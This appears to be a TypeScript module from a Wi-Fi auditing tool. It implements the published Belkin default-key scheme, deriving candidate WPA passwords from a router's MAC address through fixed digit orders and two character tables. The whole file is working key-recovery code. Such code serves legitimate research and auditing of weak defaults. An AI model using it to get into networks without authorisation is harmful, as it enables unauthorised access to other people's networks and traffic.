/**
 * Belkin (`Belkin.xxxx` / `belkin.xxx`), reference §2.5: 8 characters picked from the MAC's last 8 hex digits in a
 * fixed order and mapped through a 16-character table. The replay tries both tables, the four published orders
 * and MAC+0..2, as the reference's brute-force mode does.
 */
import { addToMac, macHex, type Identifiers, type KnownScheme } from './known-scheme.js';

export const BELKIN_ORDERS = [
  [6, 2, 3, 8, 5, 1, 7, 4],
  [1, 2, 3, 8, 5, 1, 7, 4],
  [1, 2, 3, 8, 5, 6, 7, 4],
  [6, 2, 3, 8, 5, 6, 7, 4],
] as const;
const UPPER_TABLE = '024613578ACE9BDF';
const LOWER_TABLE = '944626378ace9bdf';

/**
 * @example belkinKey('94445200C0DE', 'upper') // '040D93B0'
 */
export function belkinKey(
  macHex12: string,
  ssidCase: 'upper' | 'lower',
  order: readonly number[] = BELKIN_ORDERS[0],
): string {
  const m8 = macHex12.slice(4).toUpperCase();
  const table = ssidCase === 'upper' ? UPPER_TABLE : LOWER_TABLE;
  return order.map((pos) => table[parseInt(m8[pos - 1] ?? '0', 16)] ?? '').join('');
}

export const belkin: KnownScheme = {
  id: 'belkin',
  name: 'Belkin (reference §2.5)',
  candidates(ids: Identifiers) {
    const mac = macHex(ids);
    if (!mac) return [];
    const out: string[] = [];
    for (const delta of [0, 1, 2]) {
      const shifted = addToMac(mac, delta);
      for (const order of BELKIN_ORDERS) {
        out.push(belkinKey(shifted, 'upper', order), belkinKey(shifted, 'lower', order));
      }
    }
    return out;
  },
};
